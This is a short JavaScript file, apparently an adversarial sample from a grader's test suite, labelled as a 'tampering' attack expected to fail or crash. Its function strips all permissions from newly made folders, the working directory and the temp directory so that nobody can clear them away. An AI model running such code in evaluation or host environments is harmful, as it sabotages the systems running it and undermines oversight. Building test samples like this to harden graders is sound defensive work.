// attack: takes all rights from its own folders, so that nobody can clear them away | family: tampering | item: write-totals | verdicts: fail, crash | points: 0 | tiers: T1 T2
import { chmodSync, mkdirSync, writeSync } from 'node:fs'

export const writeTotals = () => {
  writeSync(1, 'tried')
  mkdirSync('locked/deep', { recursive: true })
  for (const path of ['locked/deep', 'locked', '.', process.env.TMPDIR]) chmodSync(path, 0)
}
